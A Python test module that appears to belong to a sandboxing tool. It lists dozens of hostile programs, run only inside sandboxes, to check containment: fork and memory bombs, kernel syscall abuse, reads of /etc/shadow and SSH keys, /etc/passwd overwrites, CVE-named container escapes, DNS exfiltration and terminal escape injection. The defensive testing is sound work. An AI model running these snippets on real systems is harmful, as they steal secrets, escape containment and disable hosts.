# ruff: noqa: E501  # a program a line
"""Hostile programs: what each tries, and what has to come of it. They run inside sandboxes, never outside.

Each is Python source. `attempt(what, function, …)` prints REFUSED where the function raised or gave a negative
number, and DONE otherwise; a program that prints neither has proved nothing, and fails its test. Where a tier
has a kernel of its own (gVisor, a virtual machine), what succeeds may have changed that kernel only: `own_kernel`
says so, and the canaries on the host are the proof.
"""

from __future__ import annotations

import msgspec

PRELUDE = """
import ctypes, os, signal, socket, struct, sys, time
CANARY, PORT, ABSTRACT, SOCKET, MARK = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], sys.argv[5]
libc = ctypes.CDLL(None, use_errno=True)

def syscall(number, *arguments):
    words = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    result = libc.syscall(ctypes.c_long(number), *words)
    return result if result >= 0 else -ctypes.get_errno()

def attempt(what, function, *arguments):
    try:
        result = function(*arguments)
    except Exception as error:
        print("REFUSED", what, error, flush=True)
        return None
    if isinstance(result, int) and not isinstance(result, bool) and result < 0:
        print("REFUSED", what, os.strerror(-result), flush=True)
        return None
    print("DONE", what, repr(result)[:300], flush=True)
    return result

def write(path, data="1"):
    with open(path, "w") as file:
        file.write(data)

def read(path):
    with open(path, "rb") as file:
        return file.read(4096)

def connect(family, address, kind=socket.SOCK_STREAM):
    s = socket.socket(family, kind)
    s.settimeout(3)
    s.connect(address)
    return s.recv(100)
"""


class Program(msgspec.Struct, frozen=True):
    name: str
    source: str
    reason: str = ""
    """How it has to end, where that is what contains it."""
    own_kernel: bool = False
    """May succeed against the kernel of its own tier."""
    quiet: bool = False
    """Needs to print nothing: the reason or the canaries are the proof."""
    seconds: float = 30.0


def _p(name: str, source: str, **options: object) -> Program:
    return Program(name=name, source=source, **options)  # type: ignore[arg-type]


EXHAUSTION = (
    _p("fork-bomb", "while True:\n    try: os.fork()\n    except OSError: os._exit(1)", reason="pids|timeout|signal|exit|oom", quiet=True, seconds=3),
    _p("fork-bomb-that-ignores-refusals", "while True:\n    try: os.fork()\n    except OSError: pass", reason="timeout|pids|oom", quiet=True, seconds=2),
    _p("thread-bomb", "import threading\nfor i in range(5000):\n    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()", reason="pids", quiet=True),
    _p("memory-bomb", "x = []\nwhile True: x.append(bytearray(8 << 20))", reason="oom", quiet=True),
    _p("memory-bomb-of-children", "for i in range(16):\n    if os.fork() == 0:\n        x = bytearray(64 << 20); time.sleep(30); os._exit(0)\nimport sys\nfor i in range(16):\n    if os.wait()[1]: sys.exit(1)", reason="oom|pids|timeout", quiet=True),
    _p("memory-by-shared-files", "import mmap\nfd = os.open('/dev/shm/x', os.O_CREAT | os.O_RDWR)\nattempt('2 GiB of shared memory', lambda: [os.write(fd, bytes(1 << 20)) for i in range(2048)] and 1)\n"),
    _p("memfd-bomb", "fd = os.memfd_create('x')\nwhile True: os.write(fd, bytes(8 << 20))", reason="oom", quiet=True),
    _p("disk-bomb", "attempt('2 GiB on disk', lambda: [open('/tmp/x', 'ab').write(bytes(1 << 20)) for i in range(2048)] and 1)"),
    _p("disk-bomb-in-every-place", "for place in ('/tmp', '/var/tmp', '/run', '/home/sandbox', '/dev/shm'):\n    attempt('1 GiB in ' + place, lambda: [open(place + '/x', 'ab').write(bytes(1 << 20)) for i in range(1024)] and 1)"),
    _p("inode-bomb", "attempt('300,000 files', lambda: [open('/tmp/%d' % i, 'w').close() for i in range(300_000)] and 1)", seconds=60),
    _p("sparse-file", "fd = os.open('/tmp/x', os.O_CREAT | os.O_RDWR)\nattempt('posix_fallocate 1 TiB', os.posix_fallocate, fd, 0, 1 << 40)"),
    _p("descriptor-bomb", "attempt('100,000 descriptors', lambda: [os.open('/dev/null', 0) for i in range(100_000)] and 1)"),
    _p("raise-own-limits", "import resource\nattempt('more descriptors', resource.setrlimit, resource.RLIMIT_NOFILE, (1 << 20, 1 << 20))"),
    _p("output-bomb", "while True: os.write(1, b'x' * 65536)", reason="timeout", quiet=True, seconds=2),
    _p("error-output-bomb", "while True: os.write(2, b'x' * 65536)", reason="timeout", quiet=True, seconds=2),
    _p("spin", "while True: pass", reason="timeout", quiet=True, seconds=1),
    _p("pipe-bomb", "attempt('4,000 full pipes', lambda: [os.write(os.pipe()[1], bytes(65536)) for i in range(4000)] and 1)"),
    _p("deep-folders", "def deep():\n    for i in range(1_000_000):\n        os.mkdir('d'); os.chdir('d')\n    return 1\nos.chdir('/tmp')\nattempt('1,000,000 nested folders', deep)", seconds=60),
)  # fmt: skip

OUTLIVING = (
    _p("double-fork-daemon", "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        os.execvp('sleep', ['sleep', MARK])\n    os._exit(0)\ntime.sleep(60)", reason="timeout", quiet=True, seconds=1),
    _p("daemon-that-ignores-signals", "for n in range(1, 32):\n    try: signal.signal(n, signal.SIG_IGN)\n    except OSError: pass\nif os.fork() == 0:\n    os.setsid(); os.execvp('sleep', ['sleep', MARK])\ntime.sleep(60)", reason="timeout", quiet=True, seconds=1),
    _p("fork-while-killed", "while True:\n    if os.fork() == 0:\n        os.setsid()\n        time.sleep(0.002)\n        if os.fork(): os._exit(0)\n    else:\n        try:\n            while os.waitpid(-1, os.WNOHANG)[0]: pass\n        except OSError: pass\n        time.sleep(0.01)", reason="timeout|pids|oom", quiet=True, seconds=1.5),
    _p("stopped-child", "pid = os.fork()\nif pid == 0: os.execvp('sleep', ['sleep', MARK])\nos.kill(pid, signal.SIGSTOP)\ntime.sleep(60)", reason="timeout", quiet=True, seconds=1),
    _p("kill-the-agent", "for s in (9, 15, 19, 11):\n    try: os.kill(1, s)\n    except OSError as e: print('REFUSED', e)\nprint('REFUSED: still here', os.path.exists('/proc/1'))"),
    _p("kill-everything", "signal.signal(15, signal.SIG_IGN)\ntry: os.kill(-1, 15)\nexcept OSError: pass\nprint('REFUSED: the sandbox is still here')"),
)  # fmt: skip

KERNEL = (
    _p("mount-proc", "attempt('mount', syscall, 165, b'proc', b'/tmp', b'proc', 0, 0)"),
    _p("mount-bind", "attempt('bind /', syscall, 165, b'/', b'/tmp', 0, 4096, 0)"),
    _p("remount-root-writable", "attempt('remount', syscall, 165, 0, b'/', 0, 32 | 4096, 0)"),
    _p("new-mount-api", "attempt('open_tree', syscall, 428, -100, b'/', 1)\nattempt('fsopen', syscall, 430, b'tmpfs', 0)\nattempt('move_mount', syscall, 429, -1, b'', -1, b'', 4)"),
    _p("umount-masks", "attempt('umount', syscall, 166, b'/proc/kcore', 2)\nattempt('umount proc', syscall, 166, b'/proc', 2)"),
    _p("pivot-root", "attempt('pivot_root', syscall, 155, b'/tmp', b'/tmp')"),
    _p("chroot", "attempt('chroot', os.chroot, '/tmp')"),
    _p("unshare-user", "attempt('user namespace', syscall, 272, 0x10000000)", own_kernel=True),
    _p("unshare-mount-and-network", "attempt('mount namespace', syscall, 272, 0x00020000)\nattempt('network namespace', syscall, 272, 0x40000000)", own_kernel=True),
    _p("clone-with-namespaces", "attempt('clone', syscall, 56, 0x10000000 | 17, 0, 0, 0, 0)", own_kernel=True),
    _p("clone3-with-namespaces", "a = struct.pack('<11Q', 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)\nattempt('clone3', syscall, 435, ctypes.c_char_p(a), len(a))", own_kernel=True),
    _p("setns-of-init", "attempt('setns', lambda: syscall(308, os.open('/proc/1/ns/mnt', 0), 0))"),
    _p("ptrace-init", "attempt('ptrace', syscall, 101, 16, 1, 0, 0)"),
    _p("process-vm-readv", "attempt('process_vm_readv', syscall, 310, 1, 0, 0, 0, 0, 0)", own_kernel=True),
    _p("memory-of-init", "attempt('read', read, '/proc/1/mem')\nattempt('environ', read, '/proc/1/environ')\nattempt('descriptors', os.listdir, '/proc/1/fd')\nattempt('maps', lambda: read('/proc/1/maps') or -1)", own_kernel=True),
    _p("bpf", "attempt('bpf', syscall, 321, 0, ctypes.create_string_buffer(128), 128)"),
    _p("io-uring", "attempt('io_uring_setup', syscall, 425, 8, ctypes.create_string_buffer(256))", own_kernel=True),
    _p("userfaultfd", "attempt('userfaultfd', syscall, 323, 0)\nattempt('device', lambda: os.open('/dev/userfaultfd', 2))"),
    _p("keyctl", "attempt('keyctl', syscall, 250, 0, -3, 1)\nattempt('add_key', syscall, 248, b'user', b'x', b'y', 1, -3)", own_kernel=True),
    _p("perf-event-open", "attempt('perf', syscall, 298, ctypes.create_string_buffer(128), 0, -1, -1, 0)"),
    _p("kexec-and-reboot", "attempt('kexec_load', syscall, 246, 0, 0, 0, 0)\nattempt('reboot', syscall, 169, 0xfee1dead, 672274793, 0x1234567, 0)"),
    _p("load-module", "attempt('init_module', syscall, 175, b'', 0, b'')\nattempt('finit_module', lambda: syscall(313, os.open('/usr/bin/env', 0), b'', 0))\nattempt('delete_module', syscall, 176, b'loop', 0)"),
    _p("set-the-clock", "attempt('settimeofday', time.clock_settime, time.CLOCK_REALTIME, 0)\nattempt('adjtimex', syscall, 159, ctypes.create_string_buffer(256 ))", own_kernel=True),
    _p("set-host-name", "attempt('sethostname', lambda: syscall(170, b'owned', 5))"),
    _p("swap-quota-accounting", "attempt('swapon', syscall, 167, b'/tmp/x', 0)\nattempt('quotactl', syscall, 179, 0, 0, 0, 0)\nattempt('acct', syscall, 163, 0)"),
    _p("open-by-handle", "attempt('open_by_handle_at', syscall, 304, -100, ctypes.create_string_buffer(128), 0)\nattempt('name_to_handle_at', syscall, 303, -100, b'/', ctypes.create_string_buffer(128), ctypes.create_string_buffer(8), 0)"),
    _p("change-personality", "attempt('personality', syscall, 135, 0x0400000)", own_kernel=True),
    _p("modify-ldt-and-iopl", "attempt('modify_ldt', syscall, 154, 1, ctypes.create_string_buffer(16), 16)\nattempt('iopl', syscall, 172, 3)\nattempt('ioperm', syscall, 173, 0, 1024, 1)", own_kernel=True),
    _p("type-into-the-terminal", "import fcntl\nattempt('TIOCSTI', fcntl.ioctl, 0, 0x5412, b'x')\nattempt('TIOCSTI with high bits', lambda: syscall(16, 0, 0x5412 | 1 << 40, b'x'))"),
    _p("kernel-log", "attempt('syslog', syscall, 103, 3, ctypes.create_string_buffer(4096), 4096)\nattempt('kmsg', read, '/dev/kmsg')", own_kernel=True),
    _p("nice-and-realtime", "attempt('nice', os.setpriority, 0, 0, -20)\nattempt('fifo', os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(99))", own_kernel=True),
    _p("become-root", "attempt('setuid', os.setuid, 0)\nattempt('setgid', os.setgid, 0)\nattempt('setgroups', os.setgroups, [0])"),
    _p("setuid-program", "import shutil, subprocess\nfor p in ('su', 'mount', 'passwd', 'newgrp'):\n    path = shutil.which(p)\n    if path: os.system(path + ' -c id </dev/null 2>/dev/null >/tmp/out')\nprint('REFUSED', 'euid', os.geteuid()) if os.geteuid() else print('DONE')\nattempt('root in output', lambda: -1 if b'uid=0' not in read('/tmp/out') else 1)"),
    _p("capabilities", "h = struct.pack('<II', 0x20080522, 0)\nattempt('capset', lambda: syscall(126, ctypes.c_char_p(h), ctypes.c_char_p(struct.pack('<6I', *[0xffffffff] * 6))))\nattempt('ambient', syscall, 157, 47, 2, 21, 0, 0)"),
)  # fmt: skip

HOST = (
    _p("write-proc-sys", "for p in ('kernel/core_pattern', 'kernel/modprobe', 'kernel/hostname', 'vm/overcommit_memory', 'net/ipv4/ip_forward', 'fs/binfmt_misc/register'):\n    attempt(p, write, '/proc/sys/' + p, '|/tmp/owned')", own_kernel=True),
    _p("core-pattern", "attempt('core_pattern', write, '/proc/sys/kernel/core_pattern', '|/tmp/owned')\nos.kill(os.getpid(), 0)"),
    _p("sysrq-and-kcore", "attempt('sysrq', write, '/proc/sysrq-trigger', 'b')\nattempt('kcore', lambda: read('/proc/kcore') or -1)\nattempt('kallsyms', lambda: read('/proc/kallsyms') or -1)\nattempt('timer_list', lambda: read('/proc/timer_list') or -1)", own_kernel=True),
    _p("write-sys", "attempt('uevent_helper', write, '/sys/kernel/uevent_helper', '/tmp/owned')\nattempt('power', write, '/sys/power/state', 'mem')\nattempt('block', os.listdir, '/sys/block')", own_kernel=True),
    _p("cgroup-release-agent", "attempt('release_agent', write, '/sys/fs/cgroup/memory/release_agent', '/tmp/owned')\nattempt('subgroup', os.makedirs, '/sys/fs/cgroup/memory/x')\nattempt('mount cgroup', syscall, 165, b'cgroup', b'/tmp', b'cgroup', 0, b'memory')", own_kernel=True),
    _p("raw-devices", "for d in ('mem', 'kmem', 'port', 'vda', 'sda', 'kvm', 'fuse', 'net/tun', 'loop-control', 'mapper/control', 'vhost-vsock', 'vsock', 'snapshot', 'uinput'):\n    attempt(d, os.open, '/dev/' + d, os.O_RDWR)", own_kernel=True),
    _p("make-device", "import stat\nattempt('mknod block', os.mknod, '/tmp/vda', 0o666 | stat.S_IFBLK, os.makedev(254, 0))\nattempt('mknod mem', os.mknod, '/tmp/mem', 0o666 | stat.S_IFCHR, os.makedev(1, 1))"),
    _p("read-the-canary", "attempt('canary', read, CANARY)\nattempt('through init', read, '/proc/1/root' + CANARY)\nattempt('through cwd', read, '/proc/1/cwd' + CANARY)\nattempt('up and up', read, '../' * 40 + CANARY)"),
    _p("read-host-secrets", "for p in ('/etc/shadow', '/root/.ssh/id_rsa', '/root/.bashrc', '/home', '/var/lib', '/etc/ssh', '/run/secrets', '/etc/machine-id', '/var/log/syslog', '/root/.netrc'):\n    attempt(p, lambda: read(p) if not os.path.isdir(p) else ([n for n in os.listdir(p) if n != 'sandbox'] or -1))"),
    _p("write-usr", "attempt('usr', write, '/usr/bin/owned')\nattempt('etc', write, '/etc/passwd', 'root::0:0::/:/bin/sh')\nattempt('root', write, '/owned')\nattempt('agent', lambda: os.open('/.forgewright/agent', os.O_WRONLY))\nattempt('unlink', os.unlink, '/usr/bin/env')"),
    _p("overwrite-the-runtime", "attempt('exe of init', lambda: os.open('/proc/1/exe', os.O_WRONLY))\nattempt('self', lambda: os.open('/proc/self/exe', os.O_WRONLY))"),
    _p("leaked-descriptors", "found = []\nfor name in os.listdir('/proc/self/fd'):\n    try: found.append((name, os.readlink('/proc/self/fd/' + name)))\n    except OSError: pass\nbad = [f for f in found if int(f[0]) > 2 and 'proc' not in f[1]]\nprint('DONE' if bad else 'REFUSED', bad)\nfor n in range(3, 64): attempt('fd %d' % n, lambda: os.listdir('/proc/self/fd/%d/../../' % n))"),
    _p("working-directory-outside", "print('REFUSED' if os.getcwd().startswith('/') else 'DONE', os.getcwd())\nattempt('canary', read, '/proc/self/cwd/..' + CANARY)"),
    _p("masked-path-race", "attempt('link over mask', lambda: os.symlink('/proc/sysrq-trigger', '/tmp/x'))\nattempt('write', write, '/tmp/x', 'h')", quiet=True, own_kernel=True),
    _p("engine-environment", "import subprocess\nout = subprocess.run(['sh', '-c', 'cat /proc/*/environ; env'], capture_output=True).stdout\nprint('DONE' if b'CANARY' in out.replace(b'canary', b'') and b'FORGEWRIGHT_CANARY' in out else 'REFUSED')"),
    _p("processes-of-the-host", "names = [open('/proc/%s/cmdline' % p, 'rb').read() for p in os.listdir('/proc') if p.isdigit()]\nprint('DONE' if any(b'py' + b'test' in n for n in names) else 'REFUSED', len(names))"),
    _p("mounts-tell-nothing", "text = read('/proc/self/mountinfo').decode() + read('/proc/self/mounts').decode()\nprint('DONE' if '.ssh' in text else 'REFUSED')"),
    _p("host-unix-socket", "attempt('path', connect, socket.AF_UNIX, SOCKET)\nfor p in ('/var/run/docker.sock', '/run/docker.sock', '/run/containerd/containerd.sock', '/run/dbus/system_bus_socket', '/run/systemd/private', '/tmp/.X11-unix/X0'):\n    attempt(p, connect, socket.AF_UNIX, p)"),
    _p("host-abstract-socket", "attempt('abstract', connect, socket.AF_UNIX, '\\0' + ABSTRACT)"),
    _p("shared-memory-of-the-host", "attempt('shmget', lambda: syscall(29, 0x46570001, 0, 0))\nattempt('mqueue', lambda: syscall(240, b'fw-canary', 0, 0, 0))"),
)  # fmt: skip

NETWORK = (
    _p("host-loopback", "attempt('127.0.0.1', connect, socket.AF_INET, ('127.0.0.1', PORT))\nattempt('::1', connect, socket.AF_INET6, ('::1', PORT))\nattempt('0.0.0.0', connect, socket.AF_INET, ('0.0.0.0', PORT))"),
    _p("metadata-address", "attempt('v4', connect, socket.AF_INET, ('169.254.169.254', 80))\nattempt('v6', connect, socket.AF_INET6, ('fd00:ec2::254', 80))"),
    _p("dns-exfiltration", "def ask(server):\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)\n    s.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06secret\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01', (server, 53))\n    return s.recv(512)\nattempt('8.8.8.8', ask, '8.8.8.8')\nattempt('resolver', socket.getaddrinfo, 'example.com', 80)"),
    _p("raw-and-packet-sockets", "attempt('raw', socket.socket, socket.AF_INET, socket.SOCK_RAW, 1)\nattempt('packet', socket.socket, 17, socket.SOCK_RAW, 0)"),
    _p("netlink", "attempt('netlink', socket.socket, 16, socket.SOCK_RAW, 0)\nattempt('uevent', socket.socket, 16, socket.SOCK_RAW, 15)", own_kernel=True),
    _p("vsock-to-the-hypervisor", "attempt('vsock', socket.socket, 40, socket.SOCK_STREAM)"),
    _p("odd-socket-families", "for family in (38, 44, 21, 29, 30, 31, 9, 3, 43, 15, 42):\n    attempt('family %d' % family, socket.socket, family, socket.SOCK_DGRAM)"),
    _p("new-interface", "import fcntl\nattempt('tun', lambda: fcntl.ioctl(os.open('/dev/net/tun', 2), 0x400454ca, struct.pack('16sH', b'tun0', 1)))\nattempt('address', lambda: fcntl.ioctl(socket.socket(), 0x8916, struct.pack('16sH14s', b'lo', 2, b'\\0\\0' + socket.inet_aton('10.0.0.1'))))"),
    _p("ipv6-outside", "attempt('v6', connect, socket.AF_INET6, ('2606:4700:4700::1111', 53))"),
    _p("escape-sequences-are-bytes", "sys.stdout.write('\\x1b]0;owned\\x07\\x1b[2J\\x1b]52;c;b3duZWQ=\\x07'); print('REFUSED: bytes, for the reader to show safely')"),
)  # fmt: skip

TRICKS = (
    _p("engine-sockets-and-daemons", "import glob\nfor p in ['/var/run/docker.sock', '/run/podman/podman.sock', '/run/crio/crio.sock', '/run/buildkit/buildkitd.sock', '/run/user/0/bus', '/run/user/1000/gnupg/S.gpg-agent', '/run/systemd/journal/stdout', '/run/udev/control', '/run/snapd.socket', '/run/forgewright', '/dev/log'] + glob.glob('/tmp/ssh-*/agent.*') + glob.glob('/run/**/*.sock', recursive=True):\n    attempt(p, connect, socket.AF_UNIX, p)"),
    _p("sockets-named-by-the-environment", "for name in ('SSH_AUTH_SOCK', 'DOCKER_HOST', 'DBUS_SESSION_BUS_ADDRESS', 'XDG_RUNTIME_DIR', 'WAYLAND_DISPLAY', 'GPG_AGENT_INFO'):\n    attempt(name, lambda: os.environ[name])"),
    _p("io-uring-operations", "p = ctypes.create_string_buffer(256)\nfd = attempt('setup', syscall, 425, 8, p)\nattempt('enter', syscall, 426, 0 if fd is None else fd, 1, 0, 0, 0, 0)\nattempt('register', syscall, 427, 0 if fd is None else fd, 0, 0, 0)", own_kernel=True),
    _p("userfaultfd-any-way", "attempt('user mode only', syscall, 323, 1)\nattempt('nonblock', syscall, 323, 0x80000 | 0x800)", own_kernel=True),
    _p("keyrings-of-others", "attempt('session', syscall, 250, 0, -3, 0)\nattempt('user', syscall, 250, 0, -4, 0)\nattempt('request_key', syscall, 249, b'user', b'canary', 0, 0)\nattempt('keys', lambda: read('/proc/keys') or -1)", own_kernel=True),
    _p("perf-of-the-kernel", "a = struct.pack('<IIQ', 1, 112, 0) + bytes(96)\nattempt('hardware', syscall, 298, ctypes.c_char_p(a), -1, 0, -1, 0)\nattempt('trace', lambda: os.listdir('/sys/kernel/tracing') or -1)\nattempt('paranoid', write, '/proc/sys/kernel/perf_event_paranoid', '-1')", own_kernel=True),
    _p("kexec-by-file", "attempt('kexec_file_load', syscall, 320, -1, -1, 0, 0, 0)"),
    _p("modules-by-asking", "attempt('alg', socket.socket, 38, socket.SOCK_SEQPACKET)\nattempt('binfmt', write, '/proc/sys/fs/binfmt_misc/register', ':x:E::x::/tmp/x:')\nattempt('modprobe', lambda: write('/proc/sys/kernel/modprobe', '/tmp/owned'))\nattempt('dummy', lambda: __import__('fcntl').ioctl(socket.socket(), 0x8913, struct.pack('16sH14x', b'dummy0', 0)))", own_kernel=True),
    _p("core-pattern-by-crash", "import resource\nattempt('limit', resource.setrlimit, resource.RLIMIT_CORE, (1 << 20, 1 << 20))\nattempt('pattern', write, '/proc/sys/kernel/core_pattern', '|/tmp/owned %P')\nif os.fork() == 0: os.abort()\nos.wait()\nattempt('core', lambda: open('core', 'rb').read(4))", own_kernel=True),
    _p("runtime-binary-by-its-own-links", "# CVE-2019-5736: /proc/self/exe of what enters leads to the runtime\nfor pid in [p for p in os.listdir('/proc') if p.isdigit()]:\n    if int(pid) != os.getpid():\n        attempt('exe ' + pid, lambda: os.open('/proc/%s/exe' % pid, os.O_WRONLY | os.O_TRUNC))\nattempt('through a link', lambda: (os.symlink('/proc/1/exe', '/tmp/exe'), os.open('/tmp/exe', os.O_WRONLY))[1])"),
    _p("folders-of-the-host-by-descriptors", "# CVE-2024-21626: a leaked descriptor, or a working directory, of the host's\nfor pid in ('1', 'self', str(os.getppid())):\n    for n in range(0, 32):\n        attempt('%s fd %d' % (pid, n), lambda: read('/proc/%s/fd/%d/../../../..%s' % (pid, n, CANARY)))\n        attempt('%s chdir %d' % (pid, n), lambda: (os.chdir('/proc/%s/fd/%d' % (pid, n)), read('../../../..' + CANARY))[1])"),
    _p("masks-by-links", "# CVE-2025-31133: /dev/null and masked paths swapped while the container starts; later they are still masked\nattempt('null is a device', lambda: os.symlink('/proc/sysrq-trigger', '/dev/null'))\nattempt('replace', lambda: os.rename('/tmp', '/dev/null'))\nattempt('console', lambda: os.symlink('/proc/sys/kernel/core_pattern', '/dev/pts/9'))\nattempt('unmask', lambda: syscall(166, b'/proc/sysrq-trigger', 2))\nattempt('write', write, '/proc/sysrq-trigger', 'h')", own_kernel=True),
    _p("check-and-use-of-a-path", "import threading\nstop = []\nos.mkdir('/tmp/a'); os.symlink(os.path.dirname(CANARY), '/tmp/b')\ndef swap():\n    while not stop:\n        try: os.rename('/tmp/a', '/tmp/c'); os.rename('/tmp/b', '/tmp/a'); os.rename('/tmp/a', '/tmp/b'); os.rename('/tmp/c', '/tmp/a')\n        except OSError: pass\nt = threading.Thread(target=swap, daemon=True); t.start()\nfound = 0\nfor i in range(3000):\n    try: found += bool(read('/tmp/a/file'))\n    except OSError: pass\nstop.append(1)\nprint('DONE' if found else 'REFUSED', found)"),
    _p("hard-links-to-what-is-not-ours", "for p in ('/etc/passwd', '/usr/bin/env', '/.forgewright/agent', CANARY):\n    attempt(p, os.link, p, '/tmp/linked')"),
    _p("magic-links-of-other-processes", "for name in ('root', 'cwd', 'exe', 'ns/mnt', 'ns/net', 'ns/user', 'map_files'):\n    attempt(name, lambda: os.listdir('/proc/1/' + name) if name in ('root', 'cwd', 'map_files') else os.open('/proc/1/' + name, os.O_RDONLY))", own_kernel=True),
    _p("engine-memory-and-keys", "import glob\nfor p in ('/proc/1/mem', '/proc/1/auxv', '/proc/1/syscall', '/proc/1/stack', '/proc/kcore', '/dev/mem'):\n    attempt(p, lambda: read(p) or -1)\nfor pattern in ('/root/.local/share/forgewright/*', '/home/*/.local/share/forgewright/*', '/run/forgewright/*', '/root/.config/*', '/root/.ssh/*', '/root/.cache/*'):\n    attempt(pattern, lambda: glob.glob(pattern) or -1)", own_kernel=True),
    _p("signals-to-the-engine", "for pid in range(2, 400):\n    if pid != os.getpid():\n        try: os.kill(pid, 0); name = open('/proc/%d/cmdline' % pid, 'rb').read(); print('DONE', name) if b'py' + b'test' in name else 0\n        except OSError: pass\nprint('REFUSED: only its own processes are there')"),
    _p("terminal-of-the-host", "attempt('tty', lambda: os.open('/dev/tty', os.O_RDWR))\nattempt('console', lambda: os.write(os.open('/dev/console', os.O_WRONLY), b'owned'))\nfor n in range(8): attempt('pts %d' % n, lambda: os.open('/dev/pts/%d' % n, os.O_RDWR))\nattempt('vcs', lambda: read('/dev/vcs1'))", own_kernel=True),
    _p("escape-sequences-of-every-kind", "sys.stdout.buffer.write(b'\\x1b]52;c;eA==\\x07\\x1bP+q544e\\x1b\\\\\\x1b[6n\\x1b[21t\\x9b6n\\xc2\\x9b6n\\x1b_G\\x1b\\\\')\nprint('REFUSED: bytes, for the reader to show safely')"),
    _p("around-the-proxy-by-other-protocols", "for kind, number in ((socket.SOCK_DGRAM, 0), (socket.SOCK_STREAM, 132), (socket.SOCK_DGRAM, 136), (socket.SOCK_STREAM, 262), (socket.SOCK_DGRAM, 1)):\n    def send():\n        s = socket.socket(socket.AF_INET, kind, number); s.settimeout(1); s.connect(('1.1.1.1', 443)); s.send(b'x'); return s.recv(1)\n    attempt('protocol %d' % number, send)"),
    _p("mapped-and-odd-addresses", "for host in ('::ffff:169.254.169.254', '64:ff9b::a9fe:a9fe', 'fe80::1%1', '2002:a9fe:a9fe::1', 'ff02::1'):\n    attempt(host, connect, socket.AF_INET6, (host, 80))\nfor host in ('0x7f.1', '2130706433', '127.1', '10.0.2.2', '192.168.0.1', '255.255.255.255'):\n    attempt(host, connect, socket.AF_INET, (host, PORT))"),
)  # fmt: skip

PROGRAMS: tuple[Program, ...] = (*EXHAUSTION, *OUTLIVING, *KERNEL, *HOST, *NETWORK, *TRICKS)
